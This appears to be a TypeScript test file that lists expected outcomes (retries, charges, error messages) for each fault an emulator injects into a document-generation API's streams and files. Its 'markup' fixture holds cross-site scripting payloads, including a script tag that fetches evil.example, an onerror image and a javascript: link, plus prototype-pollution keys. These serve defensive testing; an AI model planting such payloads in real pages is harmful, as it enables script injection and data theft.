import {
	eventOf,
	formatEvent,
	type Dialect,
	type FaultName,
	type FileFaultName,
	type StreamFaultName,
} from '../../emulator';
import type { Sections } from './expected';

/** How an item fails. */
export interface ExpectedFailure {
	/** What Switch nodes go by. */
	kind: string;
	/** The API's own words, or a pattern for the node's. */
	message: string | RegExp;
	/** Status of the answer, or the one that an `error` event carried. */
	statusCode?: number;
	code?: string;
	/** Whether a later run can help without paying twice. */
	retryable: boolean;
	/** Whether it holds for every other item as well, so that those not yet started are not sent. */
	forAll?: true;
}

/** What is expected of an item that meets a fault and may be tried twice. */
export interface ExpectedFault {
	/** Requests sent for the item. */
	requests: number;
	/** Whether the last of them is charged; the earlier ones never are. */
	charged: boolean;
	/** Whether the last answer was one of success, which names the stored document. */
	opened: boolean;
	/** The sections that arrive: a number of the usual ones, or others. */
	arrives: number | 'all' | Sections;
	/** Not set when the item succeeds. */
	failure?: ExpectedFailure;
}

const well = (arrives: ExpectedFault['arrives'] = 'all', requests = 1): ExpectedFault => ({
	requests,
	charged: true,
	opened: true,
	arrives,
});

/** Refused before the stream: free, and never tried again. */
const refused = (
	statusCode: number,
	message: string | RegExp,
	more: Partial<ExpectedFailure> = {},
): ExpectedFault => ({
	requests: 1,
	charged: false,
	opened: false,
	arrives: 0,
	failure: { kind: 'status', message, statusCode, retryable: false, ...more },
});

/** Refused before any section in a way that may pass: tried again, and the failure is that of the last try. */
const passing = (
	failure: Omit<ExpectedFailure, 'retryable' | 'kind'> & { kind?: string },
): ExpectedFault => ({
	requests: 2,
	charged: false,
	opened: false,
	arrives: 0,
	failure: { kind: 'status', ...failure, retryable: true },
});

/** Broken after the 200: the credits are spent, so never tried again. */
const broken = (
	arrives: ExpectedFault['arrives'],
	message: string | RegExp,
	more: Partial<ExpectedFailure> = {},
): ExpectedFault => ({
	requests: 1,
	charged: true,
	opened: true,
	arrives,
	failure: { kind: 'interrupted', message, retryable: false, ...more },
});

/** Broken when the request was sent: it may be at work and be charged for, so it is never tried again. This one is not. */
const RESET: ExpectedFault = {
	...broken(0, /broke before it responded/, { kind: 'connection', code: 'ECONNRESET' }),
	charged: false,
	opened: false,
};

/** A rate limit that is met until the item's time is up, which is less than the first wait. */
const limited = (message: string | RegExp = 'Rate limit exceeded') =>
	refused(429, message, { kind: 'rateLimited', retryable: true, forAll: true });

/** The server says in the first event of a stream that it can't, and charges nothing. */
const firstEvent = (fault: ExpectedFault): ExpectedFault => ({
	...fault,
	...(fault.failure && { failure: { ...fault.failure, kind: 'streamError' } }),
});

/** The faults of any answer. */
const anyAnswer = {
	status_400: refused(400, 'The request body is not valid'),
	status_401: refused(401, 'Invalid API key', { forAll: true }),
	status_402: refused(402, 'You have run out of credits', {
		code: 'insufficient_credits',
		forAll: true,
	}),
	status_403: refused(403, 'This key may not generate documents'),
	status_404: refused(404, 'Resume not found'),
	status_409: refused(409, 'The resume is being changed by another request'),
	status_413: refused(413, 'The request body is larger than 10 MB'),
	status_422: refused(422, 'The job description is too short'),
	status_429: limited(),
	status_500: passing({ statusCode: 500, message: 'Something went wrong on our side' }),
	status_502: passing({ statusCode: 502, message: 'The language model could not be reached' }),
	status_503: passing({ statusCode: 503, message: 'The service is down for maintenance' }),
	// What is behind a gateway that gave up may be at work, and a later run could pay twice.
	status_504: refused(504, 'The language model took too long'),
	// The message is in the half of the body that does not arrive.
	status_429_stalls: limited(/429/),
	status_503_stalls: passing({ statusCode: 503, message: /503/ }),
	// A later run can help, but not this one: the wait is longer than any item's time.
	retry_after_day: refused(429, 'Rate limit exceeded', {
		kind: 'rateLimited',
		retryable: true,
		forAll: true,
	}),
	not_modified: refused(304, /304/),
	other_shape_403: refused(403, 'This key lacks the scope "generate"', {
		code: 'insufficient_scope',
		forAll: true,
	}),
	upgrade_403: refused(403, 'Your plan does not include generated documents', {
		code: 'requires_upgrade',
		forAll: true,
	}),
	credits_403: refused(403, 'You have run out of credits', {
		code: 'insufficient_credits',
		forAll: true,
	}),
	reset: RESET,
	// The node can't know whether a request that was never answered is charged; this one is not.
	no_answer: { ...broken(0, /nothing for/), charged: false, opened: false },
	redirect: refused(302, 'Moved'),
	html: refused(200, /text\/html/, { kind: 'unexpectedAnswer' }),
	json: refused(200, /application\/json/, { kind: 'unexpectedAnswer' }),
	html_502: passing({ statusCode: 502, message: /502/ }),
	big_error: passing({ statusCode: 500, message: /500/ }),

	rate_limited_once: well('all', 2),
	unavailable_once: well('all', 2),
	unavailable_date_once: well('all', 2),
	reset_once: RESET,
} satisfies Partial<Record<FaultName, ExpectedFault>>;

/** One row for each of the emulator's faults of streams. */
export const expectedFaults = (dialect: Dialect): Record<StreamFaultName, ExpectedFault> => ({
	...anyAnswer,
	error_first_once: well('all', 2),

	empty: broken(0, /ended before/),
	cut_first: broken(0, /broke off before/),
	stall_first: broken(0, /nothing for/),
	malformed_first: broken(0, /cannot be read/),
	error_first_429: limited(),
	error_first_503: firstEvent(
		passing({ statusCode: 503, message: 'The text could not be generated' }),
	),
	error_first_500: firstEvent(refused(500, 'The text could not be generated')),
	error_first_400: firstEvent(refused(400, 'The text could not be generated')),
	error_first: firstEvent({
		...broken(0, 'The text could not be generated'),
		charged: false,
		opened: false,
	}),
	progress_then_429: broken(0, 'Rate limit exceeded', { kind: 'streamError', statusCode: 429 }),
	nothing: broken(0, /^Nothing was generated/, { kind: 'nothingGenerated' }),
	truncated: broken(2, /ended before/),
	cut: broken(2, /broke off before/),
	stall: broken(2, /nothing for/),
	malformed: broken(2, /cannot be read/),
	wrong_type: broken(2, /cannot be read/),
	error_mid: broken(2, 'Rate limit exceeded', { kind: 'streamError', statusCode: 429 }),
	error_mid_plain: broken(2, 'The text could not be generated', { kind: 'streamError' }),
	big_event: broken(1, /8 MiB/),
	big_stream: broken(bigStreamWithin(64 * 1024 * 1024, dialect), /64 MiB/),

	unknown_events: well(),
	unterminated: well(),
	holds_open: well(),
	bom: well(),
	crlf: well(),
	cr: well(),
	comments: well(),
	multi_data: well(),
	one_byte: well(),
	slow: well(),
	hold: well(),
	proto: well([
		['__proto__', 'A section like any other, whatever its name.'],
		['constructor', 'So is this one.'],
		['toString', 'And this one.'],
	]),
	markup: well([
		[
			'summary',
			'# Not a heading\n\nResearch & "development" <b>lead</b> <script>fetch("https://evil.example/?c=1")</script>',
		],
		[
			'skills',
			'## Skills\n- <img src="https://evil.example/pixel.gif" onerror=\'alert(1)\'>\n- [a link](javascript:alert(1))',
		],
		['a<b>&"c"', 'A name with markup in it; 5 < 6 && 7 > 6.'],
	]),
	single: well(1),
});

/** One row for each of the emulator's faults of files. Of a file that broke, nothing is handed on. */
export const expectedFileFaults: Record<FileFaultName, ExpectedFault> = {
	...anyAnswer,
	file_truncated: broken(0, /ended before/),
	file_cut: broken(0, /broke off before/),
	file_longer: broken(0, /ended before/),
	file_chunked_cut: broken(0, /broke off before/),
	file_open_cut: broken(0, /ended before/),
	file_stall: broken(0, /nothing for/),
	file_html: broken(0, /does not match/),
	file_too_large: broken(0, /64 MiB/),
	file_too_large_open: broken(0, /64 MiB/),
	// What can't be unpacked has been paid for, and is handed on as it is.
	zip_broken: well(),
	zip_bomb: well(),
	file_no_length: well(),
	file_large: well(),
	file_slow: well(),
	file_no_name: well(),
	file_odd_name: well(),
	file_utf8_name: well(),
	zip_paths: well(),
};

/** The sections of the fault `big_stream` whose whole events lie within a number of bytes. */
function bigStreamWithin(limit: number, dialect: Dialect): Sections {
	const piece = 'Lorem ipsum dolor sit amet, consectetur. '.repeat(1640).slice(0, 64 * 1024);
	const sections = new Map<string, string>();
	let room = limit;
	for (let number = 0; ; number++) {
		const section = `section_${Math.floor(number / 52) + 1}`;
		const event = eventOf({ kind: 'section', section, content: piece }, dialect);
		room -= event ? formatEvent(event, {}).length : 0;
		if (room < 0) return [...sections];
		sections.set(section, (sections.get(section) ?? '') + piece);
	}
}
